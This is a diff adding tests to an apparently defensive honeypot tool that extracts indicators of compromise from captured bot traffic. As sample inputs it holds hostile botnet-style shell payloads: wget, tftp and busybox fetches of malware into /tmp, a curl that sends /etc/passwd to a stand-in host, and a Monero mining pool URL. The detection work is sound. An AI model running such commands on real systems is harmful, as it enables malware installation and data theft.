@@ -190,3 +190,39 @@ def test_social_warfare_swp_url_is_a_download() -> None:
 def test_ordinary_requests_have_no_iocs_and_the_host_is_never_one() -> None:
     assert _http("GET / HTTP/1.1\r\nHost: 198.51.100.30:8080\r\nUser-Agent: Mozilla/5.0\r\n\r\n") == set()
     assert _http("GET /index.html?q=a+b HTTP/1.1\r\nHost: 198.51.100.30\r\n\r\n") == set()
+
+
+def test_memoised_parts_give_what_a_cold_extraction_gives() -> None:
+    """Download commands and URLs are memoised across requests (a bot's payload repeats while a
+    cache-buster changes): a warm extraction equals a cold one, whatever came before."""
+    from honeyguard.detect.iocs import downloads
+    from honeyguard.detect.iocs import extract as extract_module
+
+    payloads = [
+        b"cd /tmp; wget http://198.51.100.7/jaws; curl -d @/etc/passwd http://198.51.100.8/u; "
+        b"tftp -g -r m 198.51.100.9",
+        b"busybox wget -g 198.51.100.10 -l /tmp/m -r /Mozi.m; wget x.example.com:8080/a.sh; curl ftp://u@h.example/x",
+        b"wget http://198.51.100.7/jaws&n=1 stratum+tcp://pool.supportxmr.com:3333 wget bad-host.xyz/x.sh",
+    ]
+
+    def cold(texts: list[bytes]) -> list[tuple[str, str, str]]:
+        downloads.download_ops.cache_clear()
+        extract_module._parsed_url.cache_clear()
+        return [(i.type, i.value, i.role) for i in extract_iocs(texts, host=b"victim.example:80")]
+
+    expected = [cold([p]) for p in payloads] + [cold(payloads)]
+    assert all(expected)
+    for _ in range(2):  # warm now: the same answers, in the same order, and in another order too
+        singles = [[(i.type, i.value, i.role) for i in extract_iocs([p], host=b"victim.example:80")] for p in payloads]
+        assert singles == expected[:3]
+        warm = [(i.type, i.value, i.role) for i in extract_iocs(payloads, host=b"victim.example:80")]
+        assert warm == expected[3]
+
+
+def test_a_url_met_again_with_a_stronger_role_takes_it() -> None:
+    # first as a bare URL in the text (unknown), then in a later text as a download: the stronger
+    # role wins; met again as unknown after the download, it stays a download
+    texts = [b"see http://198.51.100.50/x.sh", b"wget http://198.51.100.50/x.sh", b"http://198.51.100.50/x.sh"]
+    found = {(i.type, i.value): i.role for i in extract_iocs(texts)}
+    assert found[("url", "http://198.51.100.50/x.sh")] == "download"
+    assert found[("ip", "198.51.100.50")] == "download"
